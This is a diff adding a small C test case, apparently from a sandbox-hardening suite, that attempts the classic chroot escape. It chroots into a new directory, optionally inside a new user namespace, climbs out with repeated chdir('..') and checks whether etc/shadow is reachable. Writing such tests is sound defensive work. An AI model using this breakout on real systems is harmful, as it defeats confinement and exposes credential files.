@@ -1,0 +1,27 @@
+// title: the classic way out of a root: chroot below and climb
+// wall: seccomp nested_namespaces
+// source: chroot(2)
+#include "attack.h"
+
+#include <sched.h>
+#include <sys/stat.h>
+
+int
+main(void)
+{
+    mkdir("jail", 0755);
+    for (int nested = 0; nested < 2; nested++) {
+        if (nested && unshare(CLONE_NEWUSER) < 0) {
+            break;
+        }
+        if (chroot("jail") == 0) {
+            for (int i = 0; i < 32; i++) {
+                if (chdir("..") < 0) {
+                    break;
+                }
+            }
+            escaped("chroot is had, shadow %s", access("etc/shadow", F_OK) == 0 ? "in sight" : "not in sight");
+        }
+    }
+    held("%s", strerror(errno));
+}
